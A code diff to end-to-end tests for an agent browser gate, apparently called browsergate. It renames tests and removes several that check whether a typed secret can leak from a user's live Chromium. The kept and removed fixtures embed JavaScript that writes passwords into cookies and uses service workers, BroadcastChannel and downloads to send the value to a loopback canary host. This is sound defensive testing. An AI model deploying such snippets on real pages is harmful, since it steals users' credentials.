@@ -3,13 +3,8 @@ package main
 import (
 	"context"
 	"fmt"
-	"io"
 	"net/http"
-	"net/url"
-	"os"
-	"path/filepath"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
@@ -17,19 +12,18 @@ import (
 	"github.com/chromedp/cdproto/serviceworker"
 	"github.com/chromedp/chromedp"
 
-	"github.com/browsergate/browsergate/evidence"
 	"github.com/browsergate/browsergate/internal/testkit"
 )
 
-// The second attack review of the live user context (issue 31): paths a
-// typed secret or a session page's request could take out through the
-// user's own, unguarded pages and workers. Each runs a user's Chromium, a
-// live session in its default context and the fixture's canary on
-// 127.0.0.2, outside the scope.
+// The user's own pages and workers beside a live session: paths a typed
+// secret or a session page's request could take out through the user's
+// own, unguarded pages and workers. Each runs a user's Chromium, a live
+// session in its default context and the fixture's canary on 127.0.0.2,
+// outside the scope.
 
-// h7SecretManifest is the e2e manifest, live in the user's browser at
+// liveSecretManifest is the e2e manifest, live in the user's browser at
 // endpoint, with APP_PASSWORD bound to 127.0.0.1.
-func h7SecretManifest(endpoint string) string {
+func liveSecretManifest(endpoint string) string {
 	return fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)) + `[secrets.APP_PASSWORD]
 env = "BROWSERGATE_E2E_SECRET"
 domains = ["127.0.0.1"]
@@ -54,10 +48,10 @@ func workerReady(t *testing.T, user context.Context) {
 	})
 }
 
-// h7Manifest3 is h7SecretManifest with 127.0.0.3 in the scope too
-// (outside the secret's domains) and command with its [browser.files]
+// liveSecretFilesManifest is liveSecretManifest with 127.0.0.3 in the scope
+// too (outside the secret's domains) and command with its [browser.files]
 // directory key = dir.
-func h7Manifest3(endpoint, command, key, dir string) string {
+func liveSecretFilesManifest(endpoint, command, key, dir string) string {
 	return strings.Replace(fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)),
 		`allowed_domains = ["127.0.0.1"]
 allow_private_cidrs = ["127.0.0.1/32"]`, `allowed_domains = ["127.0.0.1", "127.0.0.3"]
@@ -109,13 +103,13 @@ func workerSite(t *testing.T, endpoint, sw, register, form string) string {
 	return site
 }
 
-// startH7 starts a user's Chromium and a session live in it with
-// h7SecretManifest, and returns the browser's endpoint.
-func startH7(t *testing.T) (*fixture, string) {
+// startLiveSecret starts a user's Chromium and a session live in it with
+// liveSecretManifest, and returns the browser's endpoint.
+func startLiveSecret(t *testing.T) (*fixture, string) {
 	t.Helper()
 	port, _ := startChromium(t)
 	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
-	return startWith(t, h7SecretManifest(endpoint)), endpoint
+	return startWith(t, liveSecretManifest(endpoint)), endpoint
 }
 
 // canaryHasSecret fails the test when the canary saw a request, an
@@ -143,15 +137,15 @@ func (f *fixture) canarySees(t *testing.T, what string, users bool) {
 	}
 }
 
-// TestH7SecretBesideAUsersPageOfTheSite: cookies are a host's, not an
+// TestSecretNotTypedBesideAUsersPageOfTheSite: cookies are a host's, not an
 // origin's (no port, no scheme), and a page of one site frames another
 // origin of it with first-party storage. A user's tab on the field's host
 // at another port reads the cookie the field's page writes the value
 // into, and sends it to the canary: type_text must be refused while it
 // is open, naming it.
-func TestH7SecretBesideAUsersPageOfTheSite(t *testing.T) {
+func TestSecretNotTypedBesideAUsersPageOfTheSite(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	site, _ := serveLogged(t, map[string]string{
 		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
 document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
@@ -174,7 +168,7 @@ setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== se
 	f.canaryHasSecret(t, "a user's tab of the field's site")
 }
 
-// TestH7SessionPageReachesTheUsersServiceWorker: a session page loses
+// TestSessionPageCannotReachTheUsersServiceWorker: a session page loses
 // navigator.serviceWorker (user_context.js), but a frame it makes has a
 // window of its own. A worker the user's browsing registered on the
 // site (the user's tab then closed) is told by the session's page, through
@@ -183,9 +177,9 @@ setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== se
 // serviceWorker (without user_context.js's getter the worker took the
 // value to the canary); a blank document's container refuses
 // (InvalidStateError, Chromium 156).
-func TestH7SessionPageReachesTheUsersServiceWorker(t *testing.T) {
+func TestSessionPageCannotReachTheUsersServiceWorker(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
 self.addEventListener('message', e => { e.waitUntil(fetch(%q + '?v=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/sw"), "", `<title>form</title><input type=password id=pw aria-label=Password><p id=r>-</p><script>
@@ -213,7 +207,7 @@ document.getElementById('pw').addEventListener('input', e => tell(e.target.value
 	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
 }
 
-// TestH7SecretBesideAUsersFrameOfTheSite: a user's tab of another site
+// TestSecretNotSharedWithAUsersFrameOfTheSite: a user's tab of another site
 // (127.0.0.4, outside the scope) frames the field's origin; the frame
 // listens for the value the field's page hands on (a cookie with
 // SameSite=None and Secure, as a loopback page is a secure context,
@@ -224,9 +218,9 @@ document.getElementById('pw').addEventListener('input', e => tell(e.target.value
 // (a profile allowing third-party cookies, partitioning turned off), and
 // the gate would then have to count the user's frames (OOPIF targets) of
 // the field's site too.
-func TestH7SecretBesideAUsersFrameOfTheSite(t *testing.T) {
+func TestSecretNotSharedWithAUsersFrameOfTheSite(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site, _ := serveLogged(t, map[string]string{
 		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
@@ -264,105 +258,7 @@ setInterval(() => {
 	f.canaryHasSecret(t, "a user's frame of the field's site")
 }
 
-// TestH7PageDownloadCarriesTheSecret: after the secret is typed, the
-// field's page starts downloads by itself whose URLs carry the value: to
-// a host in the scope but outside the secret's domains (127.0.0.3), to
-// the canary outside the scope, and by a form with a download response.
-// Neither the other host nor the canary sees the value, and the replies
-// do not show it to the agent in any encoding the URLs carry it in.
-func TestH7PageDownloadCarriesTheSecret(t *testing.T) {
-	t.Parallel()
-	port, _ := startChromium(t)
-	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
-	down := t.TempDir()
-	manifest := h7Manifest3(endpoint, "download", "download_dir", down)
-	f := startWith(t, manifest)
-	var mu sync.Mutex
-	var other []string
-	xhost, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		mu.Lock()
-		other = append(other, r.URL.String())
-		mu.Unlock()
-		w.Header().Set("Content-Disposition", `attachment; filename="x.txt"`)
-		fmt.Fprint(w, "x")
-	}))
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(stopX)
-	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		if r.URL.Path == "/redir" {
-			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
-			return
-		}
-		if r.URL.Path == "/file" {
-			w.Header().Set("Content-Disposition", `attachment; filename="own.txt"`)
-			fmt.Fprint(w, "own")
-			return
-		}
-		w.Header().Set("Content-Type", "text/html")
-		fmt.Fprintf(w, `<title>form</title><input type=password id=pw aria-label=Password>
-<form id=f method=GET target=_self><input name=pw id=h></form><script>
-const dl = (href, name) => { const a = document.createElement('a'); a.href = href; a.download = name; document.body.append(a); a.click(); };
-let done = false;
-document.getElementById('pw').addEventListener('input', e => {
-  const v = e.target.value;
-  if (done || v.length < 10) return;
-  done = true;
-  const steps = [
-    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r.txt'),
-    () => dl('/redir?to=' + encodeURIComponent(%[2]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r2.txt'),
-    () => dl('/redir?to=' + encodeURIComponent(%[1]q + '/redir-dl?pw=' + encodeURIComponent(v)), 'r3.txt'),
-    () => dl(%[1]q + '/dl?pw=' + encodeURIComponent(v), 'a.txt'),
-    () => dl(%[2]q + '/dl?pw=' + encodeURIComponent(v), 'b.txt'),
-    () => { const f = document.getElementById('f'); f.action = %[1]q + '/form'; document.getElementById('h').value = v; f.submit(); },
-  ];
-  // The first during the type_text (its acting guard stops it), the
-  // others once the call has returned, between calls.
-  // The first during the type_text (its acting guard stops it); on
-  // ?later=N step N, once the call has returned, between calls (each
-  // takes the tab away, to a download's navigation or a refusal).
-  const later = Number(new URLSearchParams(location.search).get('later'));
-  if (!later) steps[0]();
-  else setTimeout(steps[later], 2500);
-});
-</script>`, xhost, f.canaryTo)
-	}))
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(stopSite)
-	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
-	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
-	t.Logf("type_text:\n%s", out)
-	// The refusal names a URL that carries the value encoded twice (a URL
-	// in the site's redirect parameter): the agent gets none of it.
-	if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(out, twice[len(twice)/2:]) {
-		t.Errorf("the reply shows the value's second half, percent-encoded twice:\n%s", out)
-	}
-	for n := 1; n <= 5; n++ {
-		f.mustAllow(t, "e2e.navigate", map[string]any{"url": fmt.Sprintf("%s/form?later=%d", site, n)})
-		out, _ = f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
-		time.Sleep(4 * time.Second)
-		later, _ := f.call(t, "e2e.snapshot", nil)
-		t.Logf("step %d: type_text:\n%s\nsnapshot:\n%s", n, out, later)
-		if twice := url.QueryEscape(url.QueryEscape(secretValue)); strings.Contains(later, twice[len(twice)/2:]) {
-			t.Errorf("the snapshot shows the value's second half, percent-encoded twice:\n%s", later)
-		}
-	}
-	f.canaryHasSecret(t, "the page's downloads after the secret")
-	t.Logf("list_tabs: %s", f.mustAllow(t, "e2e.list_tabs", nil))
-	mu.Lock()
-	defer mu.Unlock()
-	for _, u := range other {
-		if strings.Contains(u, "pw=") {
-			t.Errorf("the host outside the secret's domains saw %s", u)
-		}
-	}
-	t.Logf("127.0.0.3 saw %q", other)
-}
-
-// TestH7DisownedOpenerComesBackByName: a user's tab outside the scope
+// TestSecretNotTypedBesideADisownedOpener: a user's tab outside the scope
 // (127.0.0.4) opens the site's form as a named popup, which disowns its
 // opener (window.opener = null): of different origins with the link cut,
 // the two are not taken for one group, so the popup is adopted and the
@@ -370,9 +266,9 @@ document.getElementById('pw').addEventListener('input', e => {
 // (only noopener makes a new one): once the opener moves itself to the
 // site's origin it finds the popup by name and reads the field. The
 // secret must not be typed while such a page is there.
-func TestH7DisownedOpenerComesBackByName(t *testing.T) {
+func TestSecretNotTypedBesideADisownedOpener(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site, _ := serveLogged(t, map[string]string{
 		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>window.opener = null</script>`,
@@ -415,86 +311,7 @@ try {
 	f.canarySees(t, "the disowned opener, back by name", true)
 }
 
-// TestH7LivePageDownloadsDecidedByCedar: in the user's own browser, the
-// downloads a page starts by itself (a link it clicks, a data: URL, a
-// blob) are decided by Cedar as in a browser of browsergate's: in the
-// session's own tab, and in a user's tab whose adoption reload starts
-// them (the page downloads only when reloaded). A policy forbidding the
-// downloads of /auto refuses all six; none is saved, in download_dir,
-// the staging directory or the user's download folder.
-func TestH7LivePageDownloadsDecidedByCedar(t *testing.T) {
-	t.Parallel()
-	port, _ := startChromium(t)
-	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
-	dir := t.TempDir()
-	down, tmp, xdg := filepath.Join(dir, "downloads"), filepath.Join(dir, "tmp"), filepath.Join(dir, "xdg")
-	for _, d := range []string{down, tmp, xdg} {
-		if err := os.Mkdir(d, 0o755); err != nil {
-			t.Fatal(err)
-		}
-	}
-	policies := testkit.CopyPolicies(t)
-	testkit.WriteFile(t, policies, "test-downloads.cedar", `@id("no-downloads-from-auto")
-forbid (principal, action == Web::Action::"browse", resource)
-when { resource.command == "download" && resource.page_state.url like "*/auto*" };
-`)
-	f := startClientEnv(t, fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint))+fmt.Sprintf(`[browser.commands.download]
-[browser.files]
-download_dir = %q
-`, down), nil, []string{"TMPDIR=" + tmp, "XDG_DOWNLOAD_DIR=" + xdg}, "--policies", policies)
-	mux := http.NewServeMux()
-	mux.HandleFunc("/auto", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, autoDownloads("auto")) })
-	mux.HandleFunc("/auto-on-reload", func(w http.ResponseWriter, r *http.Request) {
-		// autoDownloads("reload"), only when reloaded.
-		page := strings.Replace(autoDownloads("reload"), "<script>",
-			"<script>if (performance.getEntriesByType('navigation')[0].type === 'reload') {", 1)
-		fmt.Fprint(w, strings.Replace(page, "</script>", "}</script>", 1))
-	})
-	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
-		w.Header().Set("Content-Type", "application/octet-stream")
-		w.Header().Set("Content-Disposition", `attachment; filename="`+r.URL.Query().Get("n")+`"`)
-		fmt.Fprint(w, "bytes")
-	})
-	site, stop, err := serveOn("127.0.0.1:0", mux)
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(stop)
-	const refused = "refused at cedar (policy no-downloads-from-auto)"
-	out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/auto"})
-	f.untilReplied(t, out, `("auto-link.txt") `+refused, `("auto-data.txt") `+refused, `("auto-blob.txt") `+refused)
-	usersTab(t, endpoint, site+"/auto-on-reload")
-	tab := f.waitListed(t, "/auto-on-reload")
-	out = f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": tab})
-	// The blob download of the reload is not awaited: Chromium may hold a
-	// tab's third automatic download of a site that already made three
-	// (its multiple-downloads prompt, which a headless browser leaves
-	// unanswered), and then it never starts. Whatever starts is refused.
-	f.untilReplied(t, out, `("reload-link.txt") `+refused, `("reload-data.txt") `+refused)
-	testkit.Eventually(t, func() string {
-		if left := staged(t, tmp); len(left) > 0 {
-			return fmt.Sprintf("refused downloads left in the staging directory: %q", left)
-		}
-		return ""
-	})
-	for _, d := range []string{down, xdg} {
-		if names := dirNames(t, d); len(names) > 0 {
-			t.Errorf("refused downloads were saved in %s: %q", d, names)
-		}
-	}
-	f.cs.Close()
-	recs, _ := pageDownloadRecords(t, f.evidence)
-	if len(recs) != 6 {
-		t.Errorf("%d page_download records, want 6", len(recs))
-	}
-	for _, e := range recs {
-		if e.Decision.Allowed || e.Decision.Stage != evidence.StageCedar {
-			t.Errorf("record %d of %v: %+v", e.Seq, e.Files, e.Decision)
-		}
-	}
-}
-
-// TestH7UsersServiceWorkerAndWindowsOutOfTheSessionsReach: a service
+// TestUsersServiceWorkerAndWindowsOutOfTheSessionsReach: a service
 // worker the user's browsing registered on the site answers every
 // navigation and frame with a document of its own and tells a server of
 // its own; the user's tab of another site is named "uw". The session's own
@@ -504,9 +321,9 @@ download_dir = %q
 // window named "uw": the user's is in another browsing-context group, so
 // the link opens a new popup of the session's, and the user's window
 // stays where it was.
-func TestH7UsersServiceWorkerAndWindowsOutOfTheSessionsReach(t *testing.T) {
+func TestUsersServiceWorkerAndWindowsOutOfTheSessionsReach(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		switch r.URL.Path {
@@ -581,130 +398,15 @@ self.addEventListener('fetch', e => {
 	f.settleAndCheckCanary(t, "the session's page opening a window by the user's window's name")
 }
 
-// TestH7UploadedFileCarriesTheSecret: a file in upload_dir holds a
-// secret's value (a page's download of it saved there, or an operator's
-// file). Attaching it to a page outside the secret's domains (127.0.0.3,
-// in the scope) and sending the form there would take the value where
-// type_text may not: refused at stage secrets. Attached on the secret's
-// own site, the page reads the file and sends it to 127.0.0.3: the value
-// is held to its domains as a typed one is. 127.0.0.3 never sees it.
-func TestH7UploadedFileCarriesTheSecret(t *testing.T) {
-	t.Parallel()
-	port, _ := startChromium(t)
-	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
-	up := t.TempDir()
-	if err := os.WriteFile(filepath.Join(up, "creds.txt"), []byte("user=me\npassword="+secretValue+"\n"), 0o600); err != nil {
-		t.Fatal(err)
-	}
-	manifest := h7Manifest3(endpoint, "upload_file", "upload_dir", up)
-	// The shipped policy asks a human for every upload, who sees the
-	// file's name, size and hash, not that it holds the value: without
-	// it, as an operator may run, the gate alone must hold the value.
-	policies := testkit.CopyPolicies(t)
-	for _, name := range []string{"files.cedar", "policy-tests.json"} { // and the shipped policies' tests of it
-		if err := os.Remove(filepath.Join(policies, name)); err != nil {
-			t.Fatal(err)
-		}
-	}
-	f := startWith(t, manifest, "--policies", policies)
-	var mu sync.Mutex
-	var got []string
-	form := `<title>upload</title><form id=f method=POST enctype=multipart/form-data action="/post"><input type=file id=file name=file><button id=send>send</button></form>`
-	other, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		b, _ := io.ReadAll(r.Body)
-		mu.Lock()
-		got = append(got, r.URL.String()+" "+string(b))
-		mu.Unlock()
-		w.Header().Set("Content-Type", "text/html")
-		fmt.Fprint(w, form)
-	}))
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(stopX)
-	site, _ := serveLogged(t, map[string]string{
-		"/up": fmt.Sprintf(`<title>site upload</title><input type=file id=file><script>
-document.getElementById('file').addEventListener('change', e => e.target.files[0].text().then(v =>
-  fetch(%q, {method: 'POST', body: v, mode: 'no-cors'}).catch(() => {})));
-</script>`, other+"/from-site"),
-	})
-	f.mustAllow(t, "e2e.navigate", map[string]any{"url": other + "/form"})
-	out, refused := f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
-	t.Logf("upload_file on 127.0.0.3 (refused %v):\n%s", refused, out)
-	if !refused || !strings.Contains(out, "DENIED at secrets") {
-		t.Errorf("a file holding the secret was attached on a page outside its domains")
-		f.call(t, "e2e.click", map[string]any{"selector": "#send"})
-	}
-	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/up"})
-	out, _ = f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
-	t.Logf("upload_file on the site:\n%s", out)
-	time.Sleep(2 * time.Second)
-	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.list_tabs", nil))
-	mu.Lock()
-	defer mu.Unlock()
-	for _, g := range got {
-		if strings.Contains(g, secretValue[:len(secretValue)/2]) {
-			t.Errorf("127.0.0.3 got the secret's value: %q", g)
-		}
-	}
-}
-
-// TestH7PageDownloadNamedByTheSecret: after the secret is typed, the
-// page saves a blob download named by the value and holding it. The
-// agent's replies and the evidence do not show the value in the file's
-// name (the masker's runs). What a page transforms beyond the spellings
-// the masker reads (here punctuation made "_", leaving runs under six
-// characters) and the file's SHA-256 and size, which the reply gives, are
-// the page's own choice of what to show: a page that has the value can
-// always show it transformed.
-func TestH7PageDownloadNamedByTheSecret(t *testing.T) {
-	t.Parallel()
-	port, _ := startChromium(t)
-	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
-	down := t.TempDir()
-	f := startWith(t, h7Manifest3(endpoint, "download", "download_dir", down))
-	site, _ := serveLogged(t, map[string]string{
-		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
-let done = false;
-document.getElementById('pw').addEventListener('input', e => {
-  const v = e.target.value;
-  if (done || v.length < 24) return;
-  done = true;
-  setTimeout(() => {
-    const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([v])); a.download = 'pw-' + v.replace(/[^A-Za-z0-9-]/g, '_') + '.txt';
-    document.body.append(a); a.click();
-  }, 100);
-});
-</script>`,
-	})
-	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
-	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
-	time.Sleep(2 * time.Second)
-	later, _ := f.call(t, "e2e.snapshot", nil)
-	t.Logf("type_text:\n%s\nsnapshot:\n%s\nsaved: %q", out, later, dirNames(t, down))
-	for _, text := range []string{out, later} {
-		if strings.Contains(text, "Sup3r-S3cret") {
-			t.Errorf("a reply shows the value in the download's name:\n%s", text)
-		}
-	}
-	f.cs.Close()
-	recs, _ := pageDownloadRecords(t, f.evidence)
-	for _, e := range recs {
-		if strings.Contains(fmt.Sprint(e.Files, e.Args, e.Output), "Sup3r-S3cret") {
-			t.Errorf("record %d shows the value: %v %v %q", e.Seq, e.Files, e.Args, e.Output)
-		}
-	}
-}
-
-// TestH7SecretBesideAUsersWorkerOfTheSite: a service worker the user's
+// TestSecretNotTypedBesideAUsersWorkerOfTheSite: a service worker the user's
 // browsing started on the site is still running when the user's tab of
 // it has closed; it listens on a BroadcastChannel, which a session's page
 // of the site shares (user_context.js leaves BroadcastChannel), and sends
 // what it hears to the canary. type_text must be refused while such a
 // worker runs, naming it.
-func TestH7SecretBesideAUsersWorkerOfTheSite(t *testing.T) {
+func TestSecretNotTypedBesideAUsersWorkerOfTheSite(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
 new BroadcastChannel('pw').onmessage = m => fetch(%q + '?v=' + encodeURIComponent(m.data), {mode: 'no-cors'}).catch(() => {});
@@ -722,14 +424,14 @@ document.getElementById('pw').addEventListener('input', e => bc.postMessage(e.ta
 	f.canaryHasSecret(t, "a user's worker of the site")
 }
 
-// TestH7SecretWakesTheUsersWorker: the user's service worker of the site
+// TestSecretCannotWakeTheUsersWorker: the user's service worker of the site
 // is stopped when the secret is typed, but subscribed to the site's
 // cookies (Cookie Store API): the field's page writes the value into a
 // cookie, which wakes the worker with the cookie's value, and the worker
 // sends it to the canary.
-func TestH7SecretWakesTheUsersWorker(t *testing.T) {
+func TestSecretCannotWakeTheUsersWorker(t *testing.T) {
 	t.Parallel()
-	f, endpoint := startH7(t)
+	f, endpoint := startLiveSecret(t)
 	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
 	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(self.registration.cookies.subscribe([{name: 'pw', url: self.registration.scope}]).catch(err => fetch(%[2]q + '?err=' + encodeURIComponent(String(err)), {mode: 'no-cors'}))));
